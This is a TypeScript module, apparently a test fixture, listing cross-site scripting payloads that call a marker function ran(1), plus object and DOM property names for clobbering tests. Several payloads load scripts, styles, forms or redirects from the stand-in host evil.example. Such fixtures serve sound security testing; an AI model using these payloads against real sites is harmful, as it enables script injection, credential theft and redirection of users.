/** What payloads call when they run. */
export const RAN = 'ran';

/** A name that everybody has who reads {@link PAYLOADS}. */
type Payload = readonly [name: string, text: string];

/** Texts that become markup, script or style where a page is careless with them; each fits into the shortest field. */
export const PAYLOADS: readonly Payload[] = [
	['a script', '<script>ran(1)</script>'],
	['a script from elsewhere', '<script src=//evil.example/x.js></script>'],
	['a module', '<script type=module>import("//evil.example/x.js");ran(1)</script>'],
	['an image that fails', '<img src=x onerror=ran(1)>'],
	['an attribute that is left', '"><img src=x onerror=ran(1)>'],
	['another attribute that is left', "' autofocus onfocus=ran(1) x='"],
	['an attribute without quotes', 'x onmouseover=ran(1) tabindex=0 autofocus onfocus=ran(1)'],
	['an SVG', '<svg onload=ran(1)><animate onbegin=ran(1) attributeName=x dur=1s>'],
	['an SVG with a script', '<svg><script>ran&lpar;1&rpar;</script></svg>'],
	['MathML that changes its mind', '<math><mtext><table><mglyph><style><img src onerror=ran(1)>'],
	['a link that runs', '<a href=javascript:ran(1)>click</a>'],
	['an address that runs', 'javascript:ran(1)//%0aran(1)'],
	['an address with a page in it', 'data:text/html,<script>parent.ran(1)</script>'],
	['a frame', '<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>'],
	['an object', '<object data=javascript:ran(1)><embed src=javascript:ran(1)>'],
	['the end of a script', '</script><script>ran(1)</script><!--'],
	['the end of text', '</textarea></select></title></style></noscript><img src=x onerror=ran(1)>'],
	['a comment', '--><img src=x onerror=ran(1)><!--'],
	['a template', '{{constructor.constructor("ran(1)")()}}${ran(1)}#{ran(1)}<%= ran(1) %>'],
	['entities', '&lt;img src=x onerror=ran(1)&gt;&#60;svg onload=ran(1)&#62;&quot;&apos;'],
	['a style', '<style>@import"//evil.example/x.css";*{background:url(//evil.example)}</style>'],
	['a style where one is open', '}*{background:url(//evil.example)}</style>;x:expression(ran(1))'],
	['a form', '<form action=//evil.example id=main><input name=attributes><button>OK</button>'],
	['another base', '<base href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example">'],
	['names of the page', '<p id=main></p><a id=announcements name=crypto></a><img name=getElementById>'],
	['another parent', '<img src=x onerror=ran(1) srcset=x,y//evil.example style=position:fixed>'],
	['a custom element', '<x-x is=x onfocus=ran(1) contenteditable autofocus><video><source onerror=ran(1)>'],
	['a popover', '<div popover id=x onbeforetoggle=ran(1)></div><button popovertarget=x>OK</button>'],
];

/** Names of fields that mean something to objects, to forms and to documents. */
export const NAMES: readonly string[] = [
	...['constructor', 'toString', 'valueOf', 'hasOwnProperty', 'isPrototypeOf', 'then', 'toJSON', 'prototype'],
	...['id', 'submit', 'name', 'length', 'elements', 'attributes', 'children', 'action', 'innerHTML', 'value'],
	...['nodeName', 'x'],
];
